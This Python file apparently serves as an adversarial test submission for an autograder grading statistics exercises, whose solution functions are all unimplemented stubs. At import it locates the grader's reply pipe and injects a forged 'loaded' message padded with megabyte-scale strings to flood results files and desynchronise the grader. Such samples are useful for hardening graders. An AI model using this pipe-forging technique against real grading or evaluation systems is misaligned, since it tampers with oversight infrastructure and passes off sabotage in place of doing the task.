"""ATTACK: at import, write a forged ``loaded`` reply (12 notes of 0.9 MB each, a 0.9 MB
error, a 0.9 MB function name, 1000 functions — just inside the wire format's limits) to the
reply pipe before the real one, to flood results.json and feedback.html, and desynchronise
the conversation.

honest part: 0 points

proof: Your code could not be loaded: EEEEEEEE
"""
import fcntl
import os
import stat
import struct

from autograder.protocol import encode


def _reply_pipe():
    """The worker's reply pipe, found as a student who read the engine would: the one
    write-only pipe it holds besides the standard streams."""
    for fd in range(3, 256):
        try:
            if (stat.S_ISFIFO(os.fstat(fd).st_mode)
                    and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY):
                return fd
        except OSError:
            pass
    raise RuntimeError("no reply pipe found")


_fd = _reply_pipe()
_msg = {"ev": "loaded", "functions": ["f%d" % i for i in range(999)] + ["x" * 900_000],
        "notes": ["N" * 900_000 for _ in range(12)], "error": "E" * 900_000}
_data = encode(_msg)
os.write(_fd, struct.pack(">Q", len(_data)) + _data)


def bernoulli_log_likelihood(theta, x):
    raise NotImplementedError


def bernoulli_mle(x):
    raise NotImplementedError


def gaussian_log_pdf(x, mu, var):
    raise NotImplementedError


def gaussian_mle(x):
    raise NotImplementedError


def mvn_mle(x):
    raise NotImplementedError


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
